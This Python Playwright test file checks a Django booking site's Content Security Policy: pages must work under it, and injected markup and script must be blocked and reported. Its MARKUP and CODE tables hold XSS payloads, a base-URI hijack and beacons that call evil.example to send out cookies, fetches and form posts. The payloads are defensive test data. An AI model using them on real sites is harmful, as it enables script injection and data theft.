"""The content security policy in Chromium: every page works under it, and what it is there to stop is stopped."""

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Route, expect

from harness.stack import Stack, running_stack, wait_for
from tests.conftest import copied_database

MAKE_STAFF = "from django.contrib.auth.models import User; User.objects.create_superuser('office', password='a-pass-1')"
TELL = """
addEventListener("securitypolicyviolation", (event) =>
  console.error("VIOLATION", event.effectiveDirective, event.blockedURI, event.sourceFile, event.lineNumber));
"""
COMPLAINTS = re.compile(
    "VIOLATION|Content.Security.Policy|Trusted(HTML|Script)|Permissions-Policy|Unrecognized feature"
)


@pytest.fixture(scope="module")
def site(demo_template: str, static_files: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """One site for all of these, with somebody of the staff."""
    directory: Path = tmp_path_factory.mktemp("policy")
    # A fast machine reports a dozen a second, and more than one client's share of lines.
    unlimited = {"RUM_RATE": "1000000", "RUM_RATE_PER_CLIENT": "1000000", "RUM_CLIENT_WINDOW": "0"}
    with copied_database(demo_template) as url, running_stack(directory, url, unlimited) as running:
        running.manage("shell", "-v0", "-c", MAKE_STAFF)
        yield running


@pytest.fixture
def complaints(page: Page) -> list[str]:
    """What the browser says of the policies, and every script error, with the page it was on."""
    heard: list[str] = []

    def hear(text: str) -> None:
        if COMPLAINTS.search(text):
            heard.append(f"{page.url}: {text[:300]}")

    page.add_init_script(TELL)
    page.on("console", lambda message: hear(message.text))
    page.on("pageerror", lambda error: heard.append(f"{page.url}: {error}"))
    return heard


def test_it_lets_customers_do_everything(site: Stack, page: Page, complaints: list[str]) -> None:
    for path in ("/", "/?postcode=SE1+7PB", "/services/", "/privacy/", "/nowhere/", "/bookings/forged/"):
        page.goto(site.url + path)
    page.goto(f"{site.url}/services/")
    page.locator("main a[href^='/services/']").first.click()
    page.locator("main a[href^='/book/']").first.click()
    with page.expect_response("**/api/availability**"):  # the picker swaps HTML in, under Trusted Types
        page.get_by_role("link", name="Later").click()
    expect(page).to_have_url(re.compile("week="))
    page.locator("ul.slots a").first.click()
    page.get_by_role("button", name="Book this visit").click()
    expect(page.locator(".errors")).to_be_visible()
    typed = {"name": "Ann Lee", "e-mail": "ann@example.com", "phone": "07700 900123", "address": "1 High St"}
    for label, text in typed.items():
        page.get_by_label(re.compile(label, re.I)).first.fill(text)
    page.get_by_label("Postcode").fill("SE1 7PB")
    page.get_by_label("Keep these details").check()
    page.get_by_role("button", name="Book this visit").click()
    expect(page).to_have_url(re.compile("/confirmed/$"))
    page.goto(page.url.removesuffix("confirmed/"))
    page.get_by_role("button", name="Cancel this visit").click()
    expect(page.get_by_role("heading", name="This visit is cancelled")).to_be_visible()
    page.goto(f"{site.url}/contact/")
    page.get_by_role("button", name="Send the message").click()
    expect(page.locator(".errors")).to_be_visible()
    page.goto(f"{site.url}/contact/thanks/")
    assert not complaints


def test_it_lets_the_office_do_everything(site: Stack, page: Page, complaints: list[str]) -> None:
    page.set_viewport_size({"width": 1280, "height": 900})
    log_in(page, site)
    seen = walk(page, site)
    assert {"/admin/operations/", "/admin/bookings/booking/schedule/", "/admin/password_change/"} <= seen
    assert len(seen) > 40
    use_widgets(page, site)
    assert not complaints


def log_in(page: Page, site: Stack) -> None:
    page.goto(f"{site.url}/admin/")
    page.get_by_label("Username").fill("office")
    page.get_by_label("Password").fill("a-pass-1")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("link", name="Operations")).to_be_visible()


def walk(page: Page, site: Stack) -> set[str]:
    """Open one page of each shape that links lead to, and return the shapes."""
    seen: set[str] = set()
    found = ["/admin/", "/admin/bookings/booking/?q=a", "/admin/bookings/booking/cancel/?ids=1"]
    while found:
        path = found.pop(0)
        shape = re.sub(r"\d+", "1", urlsplit(path).path)
        is_page = shape.startswith("/admin/") and "/logout/" not in shape
        is_download = "/export/" in shape or shape.endswith(".csv")
        if shape in seen or is_download or not is_page:
            continue
        seen.add(shape)
        answer = page.goto(site.url + path, wait_until="load")
        assert answer is not None
        assert answer.status < 400, path
        hrefs = page.evaluate("[...document.querySelectorAll('a[href]')].map((a) => a.pathname + a.search)")
        found += [href for href in hrefs if href not in found]
    return seen


def use_widgets(page: Page, site: Stack) -> None:
    """What Django's scripts do by themselves: slugs, inlines, two-list choices, pop-ups, filters, actions."""
    page.goto(f"{site.url}/admin/bookings/handyman/add/")
    page.get_by_label("Name").press_sequentially("Jo Bloggs")
    expect(page.get_by_label("Slug")).to_have_value("jo-bloggs")
    page.locator("#id_skills_from option").first.dblclick()
    expect(page.locator("#id_skills_to option")).to_have_count(1)
    page.locator("#working_hours-group .add-row a").click()
    expect(page.locator("#id_working_hours-0-weekday")).to_be_visible()
    with page.expect_popup() as opened:
        page.locator("#add_id_skills").click()
    opened.value.get_by_label("Name").wait_for()
    opened.value.close()
    page.goto(f"{site.url}/admin/auth/group/add/")  # a list of permissions that can be searched
    page.locator("#id_permissions_input").fill("booking")
    page.goto(f"{site.url}/admin/bookings/booking/")
    page.locator("#action-toggle").check()
    expect(page.locator(".action-counter")).to_contain_text(" of ")
    page.goto(f"{site.url}/admin/bookings/timeoff/add/")
    page.get_by_role("button", name="Toggle theme").first.click()


# Markup that somebody might get into a page, by the directive that stops it.
MARKUP = {
    "script-src-elem": "<script>window.hit = 1</script>",
    "script-src-attr": '<img src="/static/img/icon.svg" onload="window.hit = 1">',
    "base-uri": '<base href="https://evil.example/">',
    "style-src-elem": "<style>body { color: red }</style>",
    "frame-src": '<iframe src="/services/"></iframe>',
    "object-src": '<object data="/services/"></object>',
    "img-src": '<img src="https://evil.example/?cookie">',
}
# Lines of a script of ours that an attacker has talked into this.
CODE = {
    "require-trusted-types-for": [
        "document.body.innerHTML = '<img src=x onerror=\"window.hit = 1\">'",
        "const s = document.createElement('script'); s.text = 'window.hit = 1'; document.head.append(s)",
        "(0, eval)('window.hit = 1')",
    ],
    "connect-src": ["fetch('https://evil.example/').then(() => { window.hit = 1 }, () => 0)"],
    "form-action": [
        "const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post';"
        "document.body.append(f); f.submit()"
    ],
}
WATCH = """
window.stopped = [];
addEventListener('securitypolicyviolation', (event) => window.stopped.push(event.effectiveDirective));
"""


def test_it_stops_injected_code_and_hears_of_it(site: Stack, page: Page) -> None:
    page.add_init_script(WATCH)
    for path in ("/", "/admin/login/"):
        for directive, markup in MARKUP.items():
            inject(page, site.url + path, directive, markup)
        for directive, lines in CODE.items():
            for line in lines:
                page.goto(site.url + path)
                page.evaluate(f"setTimeout(() => {{ {line} }})")  # later: what Playwright runs itself may do anything
                stopped(page, directive, line)
    inject(page, f"{site.url}/", "script-src-elem", '<script src="/static/build/booked.js"></script>')
    tried = {*MARKUP, *CODE}
    wait_for("reports", lambda: tried <= {line["directive"] for line in site.log_events("csp_violation")}, 30)
    assert {line["route"] for line in site.log_events("csp_violation")} == {"/", "/admin/login/"}
    assert {line["vouched"] for line in site.log_events("csp_violation")} == {True}


def inject(page: Page, url: str, directive: str, markup: str) -> None:
    """Open the page with markup at the start of its head, under the real answer's headers."""

    def add(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("<head>", f"<head>{markup}"))

    page.route(url, add, times=1)
    page.goto(url)
    stopped(page, directive, markup)


def stopped(page: Page, directive: str, attack: str) -> None:
    # Not wait_for_function, which looks again by `eval` in the page: that is stopped too.
    wait_for(f"{directive} to stop {attack}", lambda: page.evaluate("stopped.length"), 30)
    assert page.evaluate("[stopped[0], !!window.hit]") == [directive, False], (page.url, attack)
